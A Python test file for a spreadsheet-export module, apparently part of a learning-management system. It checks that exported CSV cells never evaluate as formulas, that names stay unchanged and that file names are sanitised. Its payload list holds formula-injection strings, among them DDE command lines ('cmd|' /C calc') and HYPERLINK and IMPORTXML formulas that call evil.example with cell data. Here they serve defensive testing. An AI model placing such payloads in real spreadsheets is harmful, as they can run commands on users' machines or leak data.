"""Files for spreadsheets: no cell calculates, every cell stays one cell."""

import csv
from datetime import date, datetime
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms.reports.sheets import cell, file_name, sheet

CALCULATES = "=+-@"
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example";"hier")',
    '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
    "=SUM(A1:A9)",
    "+1+1",
    "+49 231 123456",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\t\t+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@A1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u2028=1+1",
    "\x00=1+1",
    "\u2212" + "1+1",
    "﹦1+1",
    "|calc",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    assert cell(payload).startswith("'")


def test_a_telephone_number_survives() -> None:
    assert cell("+49 231 123456") == "'+49 231 123456"


@pytest.mark.parametrize(
    "name", ["El Idrissi", "Nguyễn Thị Lan", "أمينة", "von der Heide", "O'Neill", "Yıldız", "م‌ن"]
)
def test_a_name_stays_as_it_is(name: str) -> None:
    assert cell(name) == name


@pytest.mark.parametrize(
    ("value", "written"),
    [(date(2027, 2, 8), "08.02.2027"), (datetime(2027, 2, 8, 9, 30), "08.02.2027"), (-3, "-3"), (None, "")],  # noqa: DTZ001
)
def test_days_numbers_and_nothing(value: object, written: str) -> None:
    assert cell(value) == written  # type: ignore[arg-type]  # parametrised


@given(st.lists(st.lists(st.text(max_size=20), min_size=3, max_size=3), max_size=8))
def test_one_row_is_one_line_and_no_cell_calculates(rows: list[list[str]]) -> None:
    text = sheet(["A", "B", "C"], rows).decode("utf-8-sig")
    assert text.count("\r\n") == len(rows) + 1
    read = list(csv.reader(StringIO(text, newline=""), delimiter=";"))
    assert [len(row) for row in read] == [3] * (len(rows) + 1)
    assert not any(value[:1] in CALCULATES for row in read for value in row if value)


def test_the_file_begins_with_a_mark_and_divides_by_semicolons() -> None:
    assert sheet(["Name", "Stand"], [["Ö; ä", 50]]) == '\ufeff"Name";"Stand"\r\n"Ö; ä";"50"\r\n'.encode()


def test_a_file_name_holds_group_and_day_in_plain_letters() -> None:
    name = file_name("Wer ist wie weit", 'Köln-Süd, "01/2027"\r\n', date(2026, 11, 24))
    assert name == "wer-ist-wie-weit-koeln-sued-01-2027-2026-11-24.csv"
